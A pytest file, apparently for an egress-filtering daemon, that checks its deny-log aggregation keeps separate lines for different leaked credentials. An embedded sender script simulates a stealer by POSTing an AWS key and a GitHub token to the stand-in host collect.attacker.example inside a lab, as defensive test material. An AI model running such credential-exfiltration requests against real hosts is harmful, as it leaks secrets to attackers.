"""Issue 12: aggregation that loses nothing.

Identical events within a second are written as one line with `count`, but
"identical" must include the indicators and the credentials: a stealer that
sends an AWS key and, a moment later, a GitHub token to the same host must
leave two lines, each naming its own credential. Repeats that really are
identical still aggregate, and the aggregated line says how many and when
(`count`, `first_ts`, `last_ts`; doc/DESIGN.md "Event aggregation").

Payload indicators need the payload: `unknown_ip = verify` lets the SYN to
the attacker pass and the HTTP Host decides (as in test_indicators.py).
"""
import datetime
import json
import time

import pytest

import lab as L
from exfil import common as X

HOST = "collect.attacker.example"


def fam_addr(fam):
    return L.ATTACKER6 if fam == "6" else L.ATTACKER4


# One client process connects every socket first, then sends the POSTs back
# to back (each decided by its payload): they fall well within the 1 s window
# even on a loaded machine. Prints the seconds from the first send to the last.
SENDER = r"""
import socket, sys, time
host, addr = sys.argv[1], sys.argv[2]
fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
socks = []
for body in sys.argv[3:]:
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((addr, 80))
    socks.append((s, body))
t0 = time.monotonic()
for s, body in socks:
    s.sendall(("POST /upload HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n"
               "Content-Type: application/x-www-form-urlencoded\r\n\r\n%s"
               % (host, len(body), body)).encode())
took = time.monotonic() - t0
for s, _ in socks:
    try:
        s.recv(100)  # the reset (or nothing): never an answer
    except OSError:
        pass
    s.close()
print("%.3f" % took)
"""


def post_all(lab, fam, *bodies):
    p = lab.ns_run(lab.cli, [L.PY, "-c", SENDER, HOST, fam_addr(fam)] + list(bodies))
    assert p.returncode == 0, p.stderr
    return float(p.stdout.strip())


def denies(e, fam):
    addr = fam_addr(fam)
    return [ev for ev in e.events("deny") if ev.get("dst") == addr and ev.get("dport") == 80
            and ev.get("name") == HOST]


def when(ts):
    return datetime.datetime.strptime(ts, "%Y-%m-%dT%H:%M:%S.%fZ").timestamp()


def creds_of(ev):
    return sorted(i for i in ev.get("indicators", []) if i.startswith("credential:"))


@pytest.mark.parametrize("fam", ["4", "6"])
def test_aws_key_then_github_token_two_lines(anylab, fam):
    e = anylab.start_egressd(unknown_ip="verify")
    took = post_all(anylab, fam, "aws_access_key_id=" + X.AWS_KEY_ID,
                    "token=" + X.GITHUB_TOKEN)
    assert took < 1, "the two POSTs took %.3f s: longer than the aggregation window" % took
    # Past the window (1 s) and an engine tick: anything aggregated is flushed by now.
    L.wait_for(lambda: len(denies(e, fam)) >= 2, 3, "two deny lines")
    time.sleep(1.5)
    lines = denies(e, fam)
    dump = "\n".join(json.dumps(x) for x in lines)
    assert len(lines) == 2, dump
    assert creds_of(lines[0]) == ["credential:aws_access_key"], dump
    assert creds_of(lines[1]) == ["credential:github_token"], dump
    assert {c["type"]: c["masked"] for c in lines[0]["credentials"]} == {
        "aws_access_key": X.mask(X.AWS_KEY_ID)}, dump
    assert {c["type"]: c["masked"] for c in lines[1]["credentials"]} == {
        "github_token": X.mask(X.GITHUB_TOKEN)}, dump
    for ev in lines:
        assert ev.get("severity") == "critical", dump
        assert "count" not in ev, dump  # each seen once: neither is an aggregate
    anylab.assert_attacker_got_nothing()
    X.assert_no_leak(anylab, {"aws": X.AWS_KEY_ID, "github": X.GITHUB_TOKEN})


def test_identical_repeats_aggregate_with_count_and_times(anylab):
    """Three identical POSTs: the first line at once; the repeats within its
    second in aggregated lines, each with count and the first/last time of the
    repeats it stands for. Nothing is lost: the counts add up to three."""
    e = anylab.start_egressd(unknown_ip="verify")
    took = post_all(anylab, "4", *["aws_access_key_id=" + X.AWS_KEY_ID] * 3)
    L.wait_for(lambda: sum(x.get("count", 1) for x in denies(e, "4")) >= 3, 4,
               "three denials accounted for")
    time.sleep(1.2)
    lines = denies(e, "4")
    dump = "\n".join(json.dumps(x) for x in lines)
    assert sum(x.get("count", 1) for x in lines) == 3, dump
    first = lines[0]
    assert "count" not in first and "first_ts" not in first, dump
    aggs = [x for x in lines[1:] if "count" in x]
    if took < 1:
        assert aggs, "repeats within a second were not aggregated:\n" + dump
    for agg in aggs:
        assert creds_of(agg) == ["credential:aws_access_key"], dump
        # RFC 3339 UTC, the shape of ts; first <= last <= the line's own ts
        for k in ("first_ts", "last_ts"):
            assert isinstance(agg.get(k), str) and agg[k].endswith("Z") and len(agg[k]) == 27, dump
        # first_ts / last_ts are the engine's packet times (its batch clock), ts
        # the time the line was written: the first line's ts may be a little later
        assert when(first["ts"]) - 0.1 <= when(agg["first_ts"]), dump
        assert when(agg["first_ts"]) <= when(agg["last_ts"]) <= when(agg["ts"]), dump
    for x in lines[1:]:
        if "count" not in x:  # a line of its own: a repeat past the window
            assert "first_ts" not in x, dump
    anylab.assert_attacker_got_nothing()
